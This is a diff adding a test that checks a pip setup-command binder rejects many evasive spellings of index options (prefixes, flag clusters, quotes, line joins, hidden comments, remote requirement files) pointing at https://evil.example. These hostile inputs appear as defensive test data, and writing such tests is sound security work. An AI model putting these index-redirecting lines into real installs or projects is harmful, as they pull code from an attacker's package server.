@@ -77,6 +77,46 @@ describe('pip', () => {
     const accepted = { 'requirements.txt': '--index-url https://pypi.org/simple/\n-f ./wheels\n-e .\nrequests # --index-url https://evil.example/\n-r ../outside.txt\n' };
     expect((await bind('pip', ['install', '-r', 'requirements.txt'], env, accepted)).hosts).toEqual(PYPI_HOSTS);
   });
+
+  it('review 30 F6: every spelling of an index option pip accepts is refused (optparse prefixes, clusters, quotes, pip\'s line joins and breaks)', async () => {
+    const env = operatorEnv(home());
+    const EVIL = 'https://evil.example/simple';
+    // Each was checked against pip 23.2.1's own parser (req_file.get_line_parser, and pip install on the command line).
+    const inArgs: [string[], string][] = [
+      [['install', '--index', EVIL, 'flask'], `the setup step sets --index (--index-url) ${EVIL}`],
+      [['install', '--extra-index', EVIL, 'flask'], 'the setup step sets --extra-index (--extra-index-url)'],
+      [['install', '--find', EVIL, 'flask'], 'the setup step sets --find (--find-links)'],
+      [['install', '--ind=' + EVIL, 'flask'], 'the setup step sets --ind (--index-url)'],
+      [['install', '-Ui', EVIL, 'flask'], `the setup step sets -i (--index-url) ${EVIL}`],
+      [['install', '-Uqi' + EVIL, 'flask'], `the setup step sets -i (--index-url) ${EVIL}`],
+      [['install', '-Uf', EVIL, 'flask'], 'the setup step sets -f (--find-links)'],
+      [['install', '--index-url', ` ${EVIL}`, 'flask'], 'the setup step sets --index-url'],
+    ];
+    for (const [args, where] of inArgs) {
+      await expect(bind('pip', args, env), args.join(' ')).rejects.toMatchObject({ code: 'SETUP_REGISTRY_UNSUPPORTED', message: expect.stringContaining(`pip: ${where}`) });
+    }
+    const inFile: [string, string][] = [
+      [`--extra-index ${EVIL}\nnosuchpkg-zz\n`, 'requirements.txt:1 sets --extra-index (--extra-index-url)'],
+      [`--i=${EVIL}\n`, 'requirements.txt:1 sets --i (--index-url)'],
+      [`--f ${EVIL}\n`, 'requirements.txt:1 sets --f (--find-links)'],
+      [`requests\n--index-url "${EVIL}"\n`, `requirements.txt:2 sets --index-url ${EVIL}`],
+      [`--index-u\\\nrl ${EVIL}\n`, `requirements.txt:1 sets --index-url ${EVIL}`],
+      [`# a comment\x0b--index-url ${EVIL}\n`, 'requirements.txt:2 sets --index-url'],
+      [`requests\ufeff# --extra-index-url=${EVIL}\n`, 'requirements.txt:1 sets --extra-index-url'],
+      ['--index-url https://${USER}.evil.example/simple\n', 'requirements.txt:1 sets --index-url https://${USER}.evil.example/simple, through an environment variable'],
+      ['-r https://evil.example/requirements.txt\n', 'requirements.txt:1 sets -r (--requirement) https://evil.example/requirements.txt, a requirements file pip would fetch'],
+      ["--index-url 'https://evil.example/simple\n", 'requirements.txt:1 has options pip cannot split'],
+    ];
+    for (const [text, where] of inFile) {
+      await expect(bind('pip', ['install', '-r', 'requirements.txt'], env, { 'requirements.txt': text }), JSON.stringify(text)).rejects.toMatchObject({ code: 'SETUP_REGISTRY_UNSUPPORTED', message: expect.stringContaining(`pip: ${where}`) });
+    }
+    // A chain longer than setup reads is refused, not left half-checked.
+    const chain = Object.fromEntries(Array.from({ length: 40 }, (_, n) => [`r${n}.txt`, `-r r${n + 1}.txt\n`]));
+    await expect(bind('pip', ['install', '-r', 'r0.txt'], env, chain)).rejects.toMatchObject({ message: expect.stringContaining('name more than 32 files') });
+    // What pip reads as no index option stays allowed: a requirement, a local path, file:, the operator's own index.
+    const fine = { 'requirements.txt': "flask==3.0 --hash=sha256:abc\n--find-links ./wheels\n-f file:///srv/wheels\n--extra-index-url 'https://pypi.org/simple/'\n-e .\n" };
+    expect((await bind('pip', ['install', '--no-index', '-r', 'requirements.txt', '-U'], env, fine)).hosts).toEqual(PYPI_HOSTS);
+  });
 });
 
 describe('uv', () => {
